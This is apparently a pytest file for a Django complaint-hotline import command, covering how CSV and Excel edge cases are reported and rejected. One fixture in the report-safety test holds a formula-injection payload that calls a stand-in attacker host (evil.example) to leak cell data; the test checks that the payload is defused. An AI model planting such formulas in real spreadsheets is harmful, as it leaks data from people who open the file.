"""`hotline import` never loses a row without a word: the review's cases (repeats of rejected rows, NUL
characters, repeated column names, Excel cells outside the header, merged cells, formulas without a result,
formulas in the report)."""

from __future__ import annotations

import re
import zipfile
from pathlib import Path

import pytest
from django.core.management import CommandError
from openpyxl import Workbook

from hotline.dataio import services
from hotline.dataio.readers import FileError, read_rows
from hotline.dataio.tests.test_import import report, run
from hotline.tickets.choices import Status
from hotline.tickets.models import Ticket

pytestmark = pytest.mark.django_db

TEDDY = "留言编号,留言时间,留言详情,一级标签\n"


def _xlsx(path: Path, rows: list[list[object]], merge: str = "") -> Path:
    book = Workbook()
    sheet = book.active
    for row in rows:
        sheet.append(row)
    if merge:
        sheet.merge_cells(merge)
    book.save(path)
    return path


def _rewrite_sheet(path: Path, change: callable) -> None:  # type: ignore[valid-type]
    """Edit the first sheet's XML in place (what another program would have written)."""
    tmp = path.with_suffix(".tmp")
    with zipfile.ZipFile(path) as src, zipfile.ZipFile(tmp, "w") as dst:
        for item in src.infolist():
            data = src.read(item.filename)
            if item.filename == "xl/worksheets/sheet1.xml":
                data = change(data)
            dst.writestr(item, data)
    tmp.replace(path)


# --- 1. a repeat is skipped only once a row with its id was written -----------------------------------

def test_a_corrected_repeat_of_a_row_rejected_at_write_time_is_imported(tmp_path: Path, taxonomy: None) -> None:
    path = tmp_path / "t.csv"
    path.write_text(TEDDY + "7,2019/5/1 9:00:00,楼下噪音很大,不存在的分类\n"  # rejected when written (category)
                    "7,2019/5/1 9:00:00,楼下噪音很大,环境保护\n"  # the corrected row, same id
                    "7,2019/5/1 9:00:00,楼下噪音很大,环境保护\n", encoding="utf-8")  # a true repeat
    assert run(path, "teddy")[-1] == "imported=1 rejected=1 skipped=1"
    assert Ticket.objects.get().category.name == "环境保护"
    assert [r["line"] for r in report(tmp_path / "t.rejected.csv")] == ["2"]


def test_repeats_across_batches_follow_the_same_rule(tmp_path: Path, taxonomy: None,
                                                     monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(services, "BATCH", 1)  # every row its own batch
    path = tmp_path / "t.csv"
    path.write_text(TEDDY + "7,2019/5/1 9:00:00,噪音,不存在的分类\n7,2019/5/1 9:00:00,噪音,环境保护\n"
                    "8,2019/5/1 9:00:00,路灯,环境保护\n8,2019/5/1 9:00:00,路灯,不存在的分类\n", encoding="utf-8")
    assert run(path, "teddy")[-1] == "imported=2 rejected=1 skipped=1"
    assert run(path, "teddy")[-1] == "imported=0 rejected=0 skipped=4"  # a re-run: both ids are there
    assert Ticket.objects.count() == 2


# --- 2. NUL characters ----------------------------------------------------------------------------------

def test_a_nul_character_rejects_its_row_and_never_reaches_the_database(tmp_path: Path) -> None:
    path = tmp_path / "nul.csv"
    path.write_bytes("留言编号,留言时间,留言详情\n1,2019/5/1 9:00:00,路灯\x00不亮\n2,2019/5/1 9:00:00,正常\n"
                     "3\x00,2019/5/1 9:00:00,编号里有空字符\n4,2019/5/1\x009:00,日期里有空字符\n".encode())
    assert run(path, "teddy")[-1] == "imported=1 rejected=3 skipped=0"
    rejected = report(tmp_path / "nul.rejected.csv")
    assert [r["line"] for r in rejected] == ["2", "4", "5"]
    assert all("空字符（NUL）" in r["reason"] for r in rejected)
    assert "留言详情" in rejected[0]["reason"] and "留言时间" in rejected[2]["reason"]
    assert rejected[1]["external_id"] == "3␀"  # the report shows where it was, without the character itself
    assert Ticket.objects.get().description == "正常"


# --- 3. repeated column names ------------------------------------------------------------------------

def test_a_repeated_column_name_refuses_the_file_naming_it(tmp_path: Path) -> None:
    path = tmp_path / "dup.csv"
    path.write_text("留言编号,留言时间,留言详情,留言详情\n1,2019/5/1 9:00:00,楼下噪音很大,\n", encoding="utf-8")
    with pytest.raises(CommandError, match="列名重复：「留言详情」（第 3、4 列）"):
        run(path, "teddy")
    book = _xlsx(tmp_path / "dup.xlsx", [["留言编号", "留言时间", "留言详情", " 留言时间 "],
                                          [1, "2019/5/1 9:00:00", "噪音", ""]])
    with pytest.raises(FileError, match="「留言时间」（第 2、4 列）"):
        list(read_rows(book))
    assert not Ticket.objects.exists()


# --- 4. cells outside the header ---------------------------------------------------------------------

def test_an_excel_cell_beyond_the_header_rejects_its_row_like_csv(tmp_path: Path) -> None:
    header = ["留言编号", "留言时间", "留言详情", "答复意见", "答复时间"]
    path = _xlsx(tmp_path / "x.xlsx", [header, [1, "2019/5/1 9:00:00", "路灯不亮", "", "", "补充：坏了三个月"],
                                       [2, "2019/5/1 9:00:00", "正常", None, None]])
    assert run(path, "teddy")[-1] == "imported=1 rejected=1 skipped=0"
    rejected = report(tmp_path / "x.rejected.csv")
    assert (rejected[0]["line"], rejected[0]["external_id"]) == ("2", "1")
    assert rejected[0]["reason"] == "列数不符：应为 5 列，实际 6 列（第 2 行）"


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_a_cell_under_an_empty_column_name_rejects_its_row(tmp_path: Path, kind: str) -> None:
    rows = [["留言编号", "", "留言时间", "留言详情"], [1, "补充说明", "2019/5/1 9:00:00", "路灯不亮"],
            [2, "", "2019/5/1 9:00:00", "正常"]]
    if kind == "csv":
        path = tmp_path / "u.csv"
        path.write_text("".join(",".join(map(str, r)) + "\n" for r in rows), encoding="utf-8")
    else:
        path = _xlsx(tmp_path / "u.xlsx", rows)
    assert run(path, "teddy")[-1] == "imported=1 rejected=1 skipped=0"
    reason = report(tmp_path / "u.rejected.csv")[0]["reason"]
    assert reason.startswith("第 2 列") and "没有列名" in reason


# --- 5. merged cells ---------------------------------------------------------------------------------

def test_a_cell_merged_down_a_column_is_read_in_every_row_it_covers(tmp_path: Path, taxonomy: None) -> None:
    path = _xlsx(tmp_path / "m.xlsx", [["留言编号", "留言时间", "留言详情", "一级标签"],
                                       ["1", "2019/5/1 9:00:00", "噪音一", "环境保护"],
                                       ["2", "2019/5/1 9:00:00", "噪音二", None],
                                       [None, None, None, None],  # a blank row inside the merge stays blank
                                       ["3", "2019/5/1 9:00:00", "噪音三", None]], merge="D2:D5")
    assert run(path, "teddy")[-1] == "imported=3 rejected=0 skipped=0"
    assert set(Ticket.objects.values_list("category__name", flat=True)) == {"环境保护"}


def test_a_cell_merged_across_columns_rejects_the_rows_it_covers(tmp_path: Path) -> None:
    path = _xlsx(tmp_path / "m.xlsx", [["留言编号", "留言时间", "留言详情", "答复意见", "答复时间"],
                                       ["1", "2019/5/1 9:00:00", "内容一", None, None],
                                       ["2", "2019/5/1 9:00:00", "内容二", None, None],
                                       ["3", "2019/5/1 9:00:00", "内容三", None, None]], merge="C2:D3")
    assert run(path, "teddy")[-1] == "imported=1 rejected=2 skipped=0"
    rejected = report(tmp_path / "m.rejected.csv")
    assert [r["line"] for r in rejected] == ["2", "3"]
    assert all("合并单元格 C" in r["reason"] and "跨越多列" in r["reason"] for r in rejected)


# --- 6. formulas without a computed value ------------------------------------------------------------

def test_a_formula_without_a_computed_value_rejects_its_row(tmp_path: Path) -> None:
    header = ["留言编号", "留言时间", "留言详情", "答复意见", "答复时间"]
    path = _xlsx(tmp_path / "f.xlsx", [header, [1, "2019/5/1 9:00:00", "内容一", None, None], [],
                                       [2, "2019/13/40 9:00", "坏日期", None, None],
                                       [3, "2019/5/1 9:00:00", "内容三", '="已处理"', "2019/5/2 9:00:00"]])
    assert run(path, "teddy")[-1] == "imported=1 rejected=2 skipped=0"
    rejected = {r["line"]: r["reason"] for r in report(tmp_path / "f.rejected.csv")}
    assert set(rejected) == {"4", "5"}
    assert rejected["5"] == "「答复意见」列（D5）的公式没有计算结果，请在 Excel 中打开并保存后再导入"
    assert not Ticket.objects.filter(description="内容三").exists()


def test_a_formula_with_its_computed_value_is_read_as_that_value(tmp_path: Path) -> None:
    header = ["留言编号", "留言时间", "留言详情", "答复意见", "答复时间"]
    path = _xlsx(tmp_path / "f.xlsx", [header, [3, "2019/5/1 9:00:00", "内容三", '="已处理"', "2019/5/2 9:00:00"],
                                       [4, "2019/5/1 9:00:00", "内容四", '=""', None]])
    # What Excel writes once it has computed them: the text result, and an empty text result.
    _rewrite_sheet(path, lambda xml: xml.replace(b'<c r="D2"><f>"\xe5\xb7\xb2\xe5\xa4\x84\xe7\x90\x86"</f><v /></c>',
                                                 '<c r="D2" t="str"><f>"已处理"</f><v>已处理</v></c>'.encode())
                   .replace(b'<c r="D3"><f>""</f><v /></c>', b'<c r="D3" t="str"><f>""</f><v></v></c>'))
    assert run(path, "teddy")[-1] == "imported=2 rejected=0 skipped=0"
    assert Ticket.objects.get(description="内容三").status == Status.CLOSED
    assert Ticket.objects.get(description="内容四").status == Status.PENDING_DISPATCH


def test_a_stale_sheet_dimension_loses_no_row_and_no_cell(tmp_path: Path) -> None:
    header = ["留言编号", "留言时间", "留言详情"]
    rows = [[i, "2019/5/1 9:00:00", f"内容{i}"] for i in range(1, 6)]
    rows[3].append("多出的一格")
    path = _xlsx(tmp_path / "d.xlsx", [header, *rows])
    # Many programs write a wrong <dimension>; read-only openpyxl would stop at it.
    _rewrite_sheet(path, lambda xml: re.sub(rb'<dimension ref="[^"]*" ?/>', b'<dimension ref="A1:C3"/>', xml))
    assert run(path, "teddy")[-1] == "imported=4 rejected=1 skipped=0"
    assert report(tmp_path / "d.rejected.csv")[0]["line"] == "5"


# --- 7. the report is safe to open in Excel ---------------------------------------------------------

def test_report_cells_that_look_like_formulas_are_defused(tmp_path: Path, frozen_now: object) -> None:
    path = tmp_path / "nyc.csv"
    path.write_text("unique_key,created_date,complaint_type,status\n"
                    '"=HYPERLINK(""http://evil.example/?""&A1,""详情"")",2019/13/40 9:00,Noise,Open\n'
                    "-12,2019/13/40 9:00,Noise,Open\n", encoding="utf-8")
    run(path, "nyc")
    rows = report(tmp_path / "nyc.rejected.csv")
    assert [r["line"] for r in rows] == ["2", "3"]
    assert rows[0]["external_id"] == "'=HYPERLINK(\"http://evil.example/?\"&A1,\"详情\")"
    assert rows[1]["external_id"] == "'-12"


def test_every_named_column_is_in_an_excel_row_even_when_its_last_cells_are_empty(tmp_path: Path) -> None:
    path = _xlsx(tmp_path / "e.xlsx", [["留言编号", "留言时间", "留言详情", "答复意见", "答复时间"],
                                       [1, "2019/5/1 9:00:00", "内容一"]])
    assert [r.cells for r in read_rows(path)] == [
        {"留言编号": 1, "留言时间": "2019/5/1 9:00:00", "留言详情": "内容一", "答复意见": "", "答复时间": ""}]
